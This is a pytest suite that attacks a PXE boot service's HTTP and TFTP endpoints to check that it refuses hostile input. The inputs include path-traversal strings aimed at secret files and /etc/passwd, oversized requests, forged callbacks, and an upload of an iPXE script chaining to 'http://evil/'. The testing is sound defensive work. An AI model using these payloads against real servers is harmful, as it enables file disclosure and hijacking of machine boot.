"""Hostile input at the boot service (the real process, `python -m pools.baremetal.serve_boot`,
HTTP and TFTP on 127.0.0.1): whatever a machine on the provisioning network sends, it gets
nothing but its own script while it is being provisioned, writes nothing, and the service
stays up. FAULTS-AND-ATTACKS: the boot network is the least trusted place crv listens on."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
import tftpy
import yaml

from pools.baremetal.boot import BootFiles

REPO = Path(__file__).resolve().parent.parent
MAC = "52:54:00:aa:00:01"
OTHER_MAC = "52:54:00:aa:00:02"
TOKEN = "tok-" + "Q" * 40  # what a script carries: it must never come out but by its MAC


def _port(kind: int) -> int:
    with socket.socket(socket.AF_INET, kind) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Served:
    def __init__(self, home: Path, http: str, tftp: tuple[str, int]) -> None:
        self.home, self.http, self.tftp = home, http, tftp
        self.state = home / "pools" / "pxe"
        self.files = BootFiles(self.state)

    def get(self, path: str, **headers: str) -> tuple[int, bytes]:
        request = urllib.request.Request(self.http + path, headers=headers)
        try:
            with urllib.request.urlopen(request, timeout=10) as r:
                return r.status, r.read()
        except urllib.error.HTTPError as e:
            return e.code, e.read()

    def raw(self, data: bytes) -> bytes:
        """Bytes on a plain TCP connection; what came back before the service closed it."""
        host, port = self.http.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=10) as s:
            try:
                s.sendall(data)
                s.shutdown(socket.SHUT_WR)
            except OSError:  # it closed on us mid-send: that is a refusal too
                pass
            chunks = []
            try:
                while chunk := s.recv(65536):
                    chunks.append(chunk)
            except OSError:  # reset after its answer: what came is what it said
                pass
            return b"".join(chunks)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    home = tmp_path_factory.mktemp("home")
    (home / "tftp").mkdir()
    (home / "tftp" / "undionly.kpxe").write_bytes(b"boot loader")
    (home / "files").mkdir()
    (home / "files" / "vmlinuz").write_bytes(b"kernel")
    (home / "secret.txt").write_text("outside the served directories")
    machines = {"machines": [
        {"name": "m1", "macs": [MAC], "address": "127.0.0.1",
         "bmc": {"address": "127.0.0.9", "username": "u", "password": {"env": "NOPE"}}},
    ]}  # fmt: skip
    (home / "machines.yaml").write_text(yaml.safe_dump(machines))
    http_port, tftp_port = _port(socket.SOCK_STREAM), _port(socket.SOCK_DGRAM)
    pools = {"pools": {"pxe": {"driver": "baremetal", "options": {
        "machines": str(home / "machines.yaml"),
        "kernel": f"http://127.0.0.1:{http_port}/files/vmlinuz",
        "initrd": f"http://127.0.0.1:{http_port}/files/initrd.img",
        "http_listen": f"127.0.0.1:{http_port}",
        "tftp_listen": f"127.0.0.1:{tftp_port}",
        "tftp_root": str(home / "tftp"),
        "files": str(home / "files"),
    }}}}  # fmt: skip
    (home / "pools.yaml").write_text(yaml.safe_dump(pools))
    env = {**os.environ, "CRV_HOME": str(home), "PYTHONPATH": str(REPO)}
    env.pop("CRV_POOLS_FILE", None)
    log = (home / "serve.log").open("wb")
    proc = subprocess.Popen(
        [sys.executable, "-m", "pools.baremetal.serve_boot", "--pool", "pxe"],
        env=env, stdout=log, stderr=subprocess.STDOUT, cwd=REPO,
    )  # fmt: skip
    it = Served(home, f"http://127.0.0.1:{http_port}", ("127.0.0.1", tftp_port))
    deadline = time.monotonic() + 30
    while it.get("/healthz")[0] != 200 if _up(it) else True:
        assert proc.poll() is None, (home / "serve.log").read_text()
        assert time.monotonic() < deadline, "the boot service did not start"
        time.sleep(0.1)
    it.files.write("m1", [MAC], f"#!ipxe\nkernel x crv.token={TOKEN}\nboot\n", "nonce-1", None)
    yield it
    proc.terminate()
    proc.wait(10)
    log.close()


def _up(it: Served) -> bool:
    try:
        return it.get("/healthz")[0] == 200
    except OSError:
        return False


def _still_fine(served: Served) -> None:
    assert served.get("/healthz")[0] == 200
    status, body = served.get(f"/ipxe/{MAC.replace(':', '-')}")
    assert status == 200 and TOKEN.encode() in body  # the machine being provisioned still boots


def test_a_script_for_a_mac_not_being_provisioned_is_refused_and_says_nothing(
    served: Served,
) -> None:
    for mac in (OTHER_MAC.replace(":", "-"), "ff-ff-ff-ff-ff-ff", "00-00-00-00-00-00"):
        status, body = served.get(f"/ipxe/{mac}")
        assert status == 404 and TOKEN.encode() not in body and b"m1" not in body
    for odd in ("52:54:00:aa:00:01", "525400aa0001", "52-54-00-aa-00-01-", "*", "%00"):
        status, body = served.get(f"/ipxe/{odd}")
        assert status == 404 and TOKEN.encode() not in body, odd
    _still_fine(served)


@pytest.mark.parametrize(
    "path",
    [
        "/files/..%2Fsecret.txt",
        "/files/%2e%2e%2fsecret.txt",
        "/files/../secret.txt",
        "/files/..",
        "/files/.hidden",
        "/ipxe/..%2F..%2Fpools.yaml",
        "/ipxe/../../machines.yaml",
        "/files/%2e%2e%2f%2e%2e%2fpools%2fpxe%2fboot%2fm1%2fscript.ipxe",
        "/boot/m1/script.ipxe",
        "/pools/pxe/boot/m1/nonce",
    ],
)
def test_paths_that_climb_out_are_refused(served: Served, path: str) -> None:
    status, body = served.get(path)
    assert status in (404, 405, 400), (path, status)
    assert b"outside the served" not in body and TOKEN.encode() not in body
    assert b"nonce-1" not in body and b"machines" not in body


def test_a_wrong_call_back_changes_nothing(served: Served) -> None:
    for path in ("/callback/m1/nonce-2", "/callback/m1/", "/callback/../m1/nonce-1",
                 "/callback/m2/nonce-1", "/callback/M1/nonce-1"):  # fmt: skip
        request = urllib.request.Request(served.http + path, method="POST", data=b"")
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=10)
        assert refused.value.code in (404, 405), path
    assert not served.files.booted("m1", "nonce-1")
    _still_fine(served)


def test_huge_requests_are_refused_and_the_service_stays_up(served: Served) -> None:
    long_path = b"GET /ipxe/" + b"a" * 1_000_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    answer = served.raw(long_path)
    assert answer == b"" or answer.split(b" ", 2)[1] in (b"400", b"414", b"431")
    fat_header = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: " + b"b" * 1_000_000 + b"\r\n\r\n"
    answer = served.raw(fat_header)
    assert answer == b"" or answer.split(b" ", 2)[1] in (b"400", b"431")
    body = b"x" * 5_000_000
    head = f"POST /callback/m1/nonce-X HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n"
    served.raw(head.encode() + body)  # whatever it answers, it must not fall over
    assert served.raw(b"\x00\xff" * 4096 + b"\r\n\r\n")[:9] in (b"", b"HTTP/1.1 ")  # not HTTP
    assert not served.files.booted("m1", "nonce-1")
    _still_fine(served)


def test_tftp_gives_the_boot_loader_and_takes_nothing(served: Served, tmp_path: Path) -> None:
    host, port = served.tftp
    client = tftpy.TftpClient(host, port)
    client.download("undionly.kpxe", str(tmp_path / "got"), timeout=3, retries=1)
    assert (tmp_path / "got").read_bytes() == b"boot loader"
    (tmp_path / "evil").write_bytes(b"#!ipxe\nchain http://evil/\n")
    for name in ("undionly.kpxe", "new.kpxe", "../pools.yaml"):
        with pytest.raises(Exception):  # noqa: B017 - tftpy raises its own error types
            tftpy.TftpClient(host, port).upload(name, str(tmp_path / "evil"), timeout=2, retries=0)
    assert (served.home / "tftp" / "undionly.kpxe").read_bytes() == b"boot loader"
    assert sorted(p.name for p in (served.home / "tftp").iterdir()) == ["undionly.kpxe"]
    assert "evil" not in (served.home / "pools.yaml").read_text()
    for name in ("../secret.txt", "/etc/passwd", "../../" * 8 + "etc/passwd"):
        with pytest.raises(Exception):  # noqa: B017
            tftpy.TftpClient(host, port).download(name, str(tmp_path / "x"), timeout=2, retries=0)
    _still_fine(served)
